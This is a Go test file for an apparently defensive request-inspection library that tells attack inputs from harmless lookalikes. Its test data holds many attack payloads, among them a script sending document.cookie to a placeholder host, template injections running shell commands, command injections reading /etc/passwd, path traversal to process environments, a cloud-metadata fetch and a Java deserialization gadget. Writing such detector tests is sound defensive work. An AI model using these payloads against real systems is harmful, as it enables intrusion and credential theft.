package inspect

import "testing"

func TestTalkAboutProgramsPasses(t *testing.T) {
	in := New()
	for _, c := range []struct{ name, field, value string }{
		{"a question with a tautology", "title", "How do I escape ' OR 1=1 -- in a prepared statement?"},
		{"a question with a template's arithmetic", "question", "Why does {{7*7}} become 49?"},
		{"a question with a script element", "question", "What does <script>alert(1)</script> show in an old browser?"},
		{"a question with a command", "question", "Which of ls ; cat /etc/passwd needs root?"},
		{"a statement that a colon leads to", "content", "Explain this query: SELECT a, (SELECT COUNT(*) FROM b) FROM c UNION SELECT 'x', 0;"},
		{"a command that a colon leads to", "prompt", "Write one line that removes old files: find /backup -mtime +30 -exec rm {} \\;"},
		{"a sentence that ends in a call", "evidence", "The id parameter is open to time based injection (id=1 AND SLEEP(5))."},
		{"tags that are named", "title", "Editor strips <b> but keeps <iframe> tags"},
		{"an attribute that is named", "comment", "Does onclick= work on <a> or only on <button>?"},
		{"a scheme that is named", "body", `Output is encoded; until then filter "javascript:" addresses.`},
		{"an attack that a report tells of", "description", "Repro: open search, enter ' OR 1=1, submit; got all customers, an SQL injection."},
		{"a script element that a report tells of", "nachricht", "Der Angreifer schrieb <script>alert('x')</script> in das Feld Name, es geschah nichts."},
		{"a tool and a training", "comment", "Nikto & nmap training, L'Aquila"},
		{"a forwarded mail", "body", "---------- Forwarded message ---------\nFrom: A <a@b.test>\nDate: Monday\nTo: <c@d.test>\n\nThanks."},
		{"a file in a message that goes on", "body", "the job's log:\n\n$ cat /etc/hosts; ls -la\n\nand it stops there"},
		{"a URL in a sentence", "note", "Metadata lives at http://169.254.169.254/latest/meta-data/ there."},
		{"an object's name in a text", "doc", "__proto__ pollution in libraries of old"},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := found(in, ZoneJSON, c.field, c.value); got != "" {
				t.Errorf("%q counts as %s", c.value, got)
			}
		})
	}
}

func TestScriptInASentenceIsNoTalk(t *testing.T) {
	in := New()
	for _, value := range []string{
		"Great product, thanks for the quick delivery! <script>fetch('https://x.test/?'+document.cookie)</script> Would buy again.",
		"The weather was fine and the food too. <body onload=alert('hacked')> We will be back.",
		"My order arrived late, please check <svg onload=eval(atob('YWxlcnQoMSk='))> regards, Tom",
		"I think this is a really good product and I will buy <script>alert(1)</script> it again with my friends",
		"## notes\n\n```sh\nls -la\n```\n\n<script>alert(1)</script>\n",
	} {
		if got := found(in, ZoneJSON, "comment", value); got != "xss" {
			t.Errorf("%q counts as %q", value, got)
		}
	}
}

func TestWhatPeopleSearchHelpForPasses(t *testing.T) {
	in := New()
	for value, attack := range map[string]string{
		"cat /etc/passwd meaning":       "cat /etc/passwd",
		"sleep() vs waitfor delay":      "1;waitfor delay '0:0:5'",
		"how to prevent ' or 1=1 mysql": "how to ' or 1=1 -- mysql",
		"<script> vs <script defer>":    "<script>alert(1)</script> html",
		"../../ relative path meaning":  "../../../etc/passwd",
	} {
		if got := found(in, ZoneQuery, "q", value); got != "" {
			t.Errorf("%q counts as %s", value, got)
		}
		if got := found(in, ZoneQuery, "q", attack); got == "" {
			t.Errorf("%q counts as nothing", attack)
		}
	}
}

func TestAFileIsNoAttackAndACommandBehindALineBreakIs(t *testing.T) {
	in := New()
	script := "#!/bin/sh\nset -eu\ncurl -sfL http://169.254.169.254/latest/meta-data/ > /tmp/m; cat /tmp/m\n"
	if got := found(in, ZoneJSON, "server.user_data", script); got != "" {
		t.Errorf("a script for a new machine counts as %s", got)
	}
	if got := found(in, ZoneJSON, "user.name", script); got == "" {
		t.Error("a script in a name counts as nothing")
	}
	for _, value := range []string{"x\ncat /etc/passwd", "1\nunion\nselect\nnull,\nversion()--", "parcel\nuname -a\n"} {
		if got := found(in, ZoneJSON, "content", value); got == "" {
			t.Errorf("%q counts as nothing", value)
		}
	}
}

func TestWordsAroundATemplateMakeItNoTalk(t *testing.T) {
	in := New()
	for _, value := range []string{
		"How are you {{cycler.__init__.__globals__.os.popen('id').read()}} today in html?",
		"please render the html of {{ ''.__class__.__mro__[1].__subclasses__() }}",
	} {
		if got := found(in, ZoneJSON, "message", value); got == "" {
			t.Errorf("%q counts as nothing", value)
		}
	}
}

func TestFormsOfStrangersPass(t *testing.T) {
	in := New()
	for _, c := range []struct {
		name, field, value string
		zone               Zone
	}{
		{"a list in JSON", "parameters", `[{"type":"category","value":"Rock'n'Roll"}]`, ZoneQuery},
		{"PHP's list", "opt", `a:2:{i:0;s:4:"abcd";i:1;i:7;}`, ZoneForm},
		{"feet", "size", "32' or 34'", ZoneQuery},
		{"TeX", "alt", `\includegraphics[width=.5\textwidth]{../../img/plot.pdf}`, ZoneJSON},
		{"Overpass", "data", `[out:json][timeout:25];(node["amenity"="cafe"](41.2,4.1,36.3,0.7););out;`, ZoneForm},
		{"a network in a rule", "rules.dst", "169.254.169.254/32", ZoneJSON},
		{"a barcode's separators", "code", "]C101095060001343521\x1d10AB12\x1d2195", ZoneForm},
		{"fields of a list's elements", "fields", "id,name(select),items{id,union}", ZoneQuery},
		{"three back-quotes", "stop", "```", ZoneJSON},
		{"a threshold", "description", "Speed 3/250 Mbit/s; ping >900ms", ZoneJSON},
		{"escaped markup in rich text", "page", "<p>Code: <code>&lt;script&gt;</code></p>", ZoneJSON},
		{"a search in a log", "query", `url.original : *etc/passwd* or user_agent.original : (*sqlmap* or *nikto*)`, ZoneJSON},
		{"another", "search", `search index=web (uri="*../*" OR uri="*union*select*") | stats count by src`, ZoneForm},
		{"a post that a site gives to embed", "page", `<blockquote><p>so true</p></blockquote> <script async src="https://x.test/w.js"></script>`, ZoneJSON},
		{"an exception's class", "class", "java.lang.IllegalArgumentException", ZoneJSON},
		{"a page that is watched", "url", "https://x.test/phpinfo.php", ZoneJSON},
		{"a file that a project shares", "extends", "../../../tsconfig.base.json", ZoneJSON},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := found(in, c.zone, c.field, c.value); got != "" {
				t.Errorf("%q counts as %s", c.value, got)
			}
		})
	}
}

func TestProbesOfStrangersAreFound(t *testing.T) {
	in := New()
	for _, c := range []struct {
		name, field, value, class string
		zone                      Zone
	}{
		{"a tautology in brackets", "sort", "(1=1)", "sqli", ZoneQuery},
		{"a tautology that is multiplied", "id", "(8362=9139)*9139", "sqli", ZoneQuery},
		{"two quotes behind a word", "slug", "garden-chair-oak' '", "sqli", ZoneQuery},
		{"a condition in a script", "x", "|| 1==1//", "nosqli", ZoneJSON},
		{"a command behind an address", "host", "127.0.0.1| dir", "cmdi", ZoneJSON},
		{"what is written to a file", "file", "x; echo 'test' > /tmp/x", "cmdi", ZoneJSON},
		{"a call of eval", "x", "eval(name)", "xss", ZoneQuery},
		{"a filter that holds for all", "uid", "(&(uid=admin)(!(&(1=0)(userPassword=*))))", "ldap", ZoneQuery},
		{"a predicate that is left", "name", "') or contains(name,'adm') or ('", "xpath", ZoneJSON},
		{"a file that a template is read from", "template", "/etc/hosts", "traversal", ZoneJSON},
		{"a process's environment behind a name", "id", "x/proc/self/environ", "traversal", ZoneQuery},
		{"a password in a database's URL", "source", "postgres://bob:secret@db.test/app", "urlcredential", ZoneJSON},
		{"a bot's key in a path", "", "bot1234567890:AAF_abcdefghijklmnopqrstuvwxyz01234", "urlcredential", ZonePath},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := found(in, c.zone, c.field, c.value)
			if c.zone == ZonePath {
				in.Begin([]byte("GET"))
				in.Path([]byte("/" + c.value + "/getMe"))
				got = in.Worst().Class.String()
			}
			if got != c.class {
				t.Errorf("%q counts as %q", c.value, got)
			}
		})
	}
}

func TestRequestsOfStrangers(t *testing.T) {
	in := New()
	dav := [][2]string{{"depth", "1"}, {"content-type", "application/xml"}}
	for _, c := range []struct {
		name, method, target, body, class string
		headers                           [][2]string
	}{
		{"WebDAV with its headers", "PROPFIND", "/dav/", "", "", dav},
		{"WebDAV's method alone", "PROPFIND", "/v1/contacts", "", "oddity", nil},
		{"a query of Salesforce's", "GET", "/services/data/v60.0/query?q=SELECT+Id,Name+FROM+Account+WHERE+Name+LIKE+'A%25'", "", "", nil},
		{"the same where no queries are taken", "GET", "/services/data/v60.0/find?q=SELECT+Id,Name+FROM+Account+WHERE+Name+LIKE+'A%25'", "", "sqli", nil},
		{"a condition of Socrata's", "GET", "/r.json?$where=created_at+between+1+and+2", "", "", nil},
		{"a condition that is a script", "GET", "/r.json?$where=this.a+==+1", "", "nosqli", nil},
		{"an upload in parts", "PATCH", "/files/1", "\x01\x02\x03\x00", "", [][2]string{{"content-type", "application/offset+octet-stream"}}},
		{"an absolute target", "GET", "http://internal.test/admin", "", "oddity", nil},
		{"ASCII as %u", "GET", "/api?role=%u0061dmin", "", "oddity", nil},
		{"dots escaped twice", "GET", "/images/%252e%252e%252fx", "", "traversal", nil},
		{"a console that scanners ask for", "GET", "/nacos/v1/auth/users?pageNo=1", "", "scanner", nil},
		{"a log of errors that scanners ask for", "GET", "/elmah.axd", "", "scanner", nil},
		{"a host with a path", "GET", "/", "", "oddity", [][2]string{{"host", "api.test/x"}}},
		{"a class and what to make of it", "POST", "/", `{"user":["ch.qos.logback.core.db.X",{"url":"jdbc:h2:mem:"}]}`, "deserialization", [][2]string{{"content-type", "application/json"}}},
		{"a list of Java's", "POST", "/", `{"tags":["java.util.ArrayList",["a","b"]]}`, "", [][2]string{{"content-type", "application/json"}}},
		{"a number that no double holds", "POST", "/", `{"n":-1e+309}`, "jsonbomb", [][2]string{{"content-type", "application/json"}}},
		{"the smallest double", "POST", "/", `{"n":5e-324}`, "", [][2]string{{"content-type", "application/json"}}},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := ""
			in.Whole([]byte(c.method), []byte(c.target), c.headers, []byte(c.body))
			if w := in.Worst(); w != nil && w.Confidence >= DefaultThreshold {
				got = w.Class.String()
			}
			if got != c.class {
				t.Errorf("got %q, want %q", got, c.class)
			}
		})
	}
}
